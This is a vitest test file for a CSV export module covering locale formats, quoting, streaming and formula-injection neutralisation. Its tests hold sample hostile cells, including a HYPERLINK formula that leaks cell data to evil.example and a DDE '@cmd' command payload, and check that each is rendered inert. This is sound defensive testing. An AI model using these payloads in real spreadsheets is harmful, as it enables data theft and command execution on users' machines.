import { describe, expect, it } from 'vitest'
import fc from 'fast-check'
import { BOM, CsvOptionError, contentDisposition, csvCell, csvNumber, csvOptions, csvRow, csvStream, neutraliseFormula, parseSeparator, toCsv } from '@/lib/export/csv'

const fr = csvOptions('fr')
const en = csvOptions('en')

/** Minimal RFC 4180 parser (what a spreadsheet does when it opens the file). */
function parseCsv(text: string, sep: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let q = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (q) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++
      else if (ch === '"') q = false
      else cell += ch
    } else if (ch === '"') q = true
    else if (ch === sep) row.push(cell), (cell = '')
    else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell), rows.push(row), (row = []), (cell = ''), i++
    } else cell += ch
  }
  if (cell || row.length) row.push(cell), rows.push(row)
  return rows
}

/** What Excel/LibreOffice would evaluate as a formula in a parsed cell. */
const executes = (cell: string) => /^[\s"\u00A0\u202F]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) || /^[\t\r\n]/.test(cell)

describe('CSV options', () => {
  it('French defaults to ; and decimal comma, English to , and decimal point', () => {
    expect(fr).toMatchObject({ separator: ';', decimal: ',', bom: true })
    expect(en).toMatchObject({ separator: ',', decimal: '.', bom: true })
  })
  it('sep parameter: , ; tab and names; anything else is rejected', () => {
    expect(parseSeparator(',', 'fr')).toBe(',')
    expect(parseSeparator('semicolon', 'en')).toBe(';')
    expect(parseSeparator('tab', 'en')).toBe('\t')
    expect(parseSeparator('\t', 'en')).toBe('\t')
    expect(parseSeparator('', 'fr')).toBe(';')
    expect(parseSeparator(null, 'en')).toBe(',')
    expect(() => parseSeparator('|', 'en')).toThrow(CsvOptionError)
    expect(() => parseSeparator('=', 'en')).toThrow(CsvOptionError)
  })
})

describe('CSV cells', () => {
  it('numbers stay numbers with the locale decimal mark, full precision, no grouping', () => {
    expect(csvCell(1234567.891, fr)).toBe('1234567,891')
    expect(csvCell(1234567.891, en)).toBe('1234567.891')
    expect(csvCell(0.8523809523809524, fr)).toBe('0,8523809523809524')
    expect(csvCell(-12.5, fr)).toBe('-12,5') // a negative number is not a formula
    expect(csvCell(1e-7, en)).toBe('0.0000001')
    expect(csvCell(1e21, en)).toBe('1000000000000000000000')
    expect(csvCell(NaN, en)).toBe('')
    expect(csvCell(null, en)).toBe('')
    expect(csvCell(12n, en)).toBe('12')
    expect(csvNumber(0.1 + 0.2, '.')).toBe(String(0.1 + 0.2))
  })
  it('a decimal comma is quoted when the separator is a comma', () => {
    expect(csvCell(1.5, { separator: ',', decimal: ',' })).toBe('"1,5"')
  })
  it('quotes separators, quotes, line breaks and edge spaces', () => {
    expect(csvCell('a;b', fr)).toBe('"a;b"')
    expect(csvCell('a,b', fr)).toBe('a,b')
    expect(csvCell('say "hi"', en)).toBe('"say ""hi"""')
    expect(csvCell('two\nlines', en)).toBe('"two\nlines"')
    expect(csvCell(' padded', en)).toBe('" padded"')
  })
  it('formula injection: text starting with = + - @ tab CR (also full-width, after spaces/quotes) is prefixed with a quote', () => {
    for (const s of ['=1+1', '+33 1 23', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1+1', '  =1+1', '"=1+1', "'=1"]) {
      expect(neutraliseFormula(s), JSON.stringify(s)).toBe(`'${s}`)
    }
    for (const s of ['plain', 'a=b', 'sales-orders-voice', '3-2', '']) expect(neutraliseFormula(s)).toBe(s)
  })
  it('control and invisible characters are removed before the formula check', () => {
    expect(neutraliseFormula('\u0000=1+1')).toBe("'=1+1")
    expect(neutraliseFormula('\u200B\u202E+cmd')).toBe("'+cmd")
    expect(neutraliseFormula('\u0085@SUM(A1)')).toBe("'@SUM(A1)")
    expect(neutraliseFormula('a\u0007b')).toBe('ab')
    expect(neutraliseFormula('two\nlines\tok')).toBe('two\nlines\tok')
  })
  it('a hostile cell survives a spreadsheet parse as inert text', () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    const text = toCsv([['queue', 'agent'], [hostile, '@cmd|\' /C calc\'!A0']], fr)
    const rows = parseCsv(text.slice(1), ';')
    expect(rows[1]![0]).toBe(`'${hostile}`)
    expect(rows[1]![1]).toBe(`'@cmd|' /C calc'!A0`)
    for (const c of rows[1]!) expect(executes(c)).toBe(false)
  })
  it('property: no text cell ever parses back into something a spreadsheet executes, and content is preserved', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ maxLength: 30 }), { minLength: 1, maxLength: 6 }), fc.constantFrom(',', ';', '\t' as const), (cells, sep) => {
        const o = { separator: sep as ',' | ';' | '\t', decimal: '.' as const }
        const line = csvRow(cells, o)
        const parsed = parseCsv(line, sep)[0]!
        expect(parsed.length).toBe(cells.length)
        parsed.forEach((p, i) => {
          expect(executes(p)).toBe(false)
          const original = cells[i]!
          expect(p === original || p === `'${original}`).toBe(true)
        })
      }),
      { numRuns: 500 },
    )
  })
})

describe('CSV documents', () => {
  it('UTF-8 BOM, CRLF rows', () => {
    const text = toCsv([['Centre', 'Taux d’abandon'], ['Paris Ventes', 0.051]], fr)
    expect(text.startsWith(BOM)).toBe(true)
    expect(text).toBe(`${BOM}Centre;Taux d’abandon\r\nParis Ventes;0,051\r\n`)
    const bytes = new TextEncoder().encode(text)
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  })
  it('streams many rows with a BOM and the header first, pulling lazily', async () => {
    let produced = 0
    async function* rows() {
      for (let i = 0; i < 50_000; i++) {
        produced++
        yield [i, `c-${i}`, i % 2 ? '=evil' : 'ok'] as const
      }
    }
    const stream = csvStream(['n', 'id', 'x'], rows(), en)
    const reader = stream.getReader()
    const first = await reader.read()
    // Only one ~64 KiB chunk has been produced, not the whole source.
    expect(produced).toBeLessThan(10_000)
    const dec = new TextDecoder('utf-8', { ignoreBOM: true })
    let text = dec.decode(first.value, { stream: true })
    for (;;) {
      const r = await reader.read()
      if (r.done) break
      text += dec.decode(r.value, { stream: true })
    }
    expect(text.startsWith(`${BOM}n,id,x\r\n0,c-0,ok\r\n1,c-1,'=evil\r\n`)).toBe(true)
    expect(text.split('\r\n').length - 2).toBe(50_000)
  })
  it('cancelling the stream closes the source', async () => {
    let closed = false
    async function* rows() {
      try {
        for (let i = 0; ; i++) yield [i]
      } finally {
        closed = true
      }
    }
    const reader = csvStream(null, rows(), en).getReader()
    await reader.read()
    await reader.cancel()
    expect(closed).toBe(true)
  })
  it('content-disposition has an ASCII fallback and the UTF-8 name', () => {
    expect(contentDisposition('rapport-février.csv')).toBe(`attachment; filename="rapport-f_vrier.csv"; filename*=UTF-8''rapport-f%C3%A9vrier.csv`)
  })
})
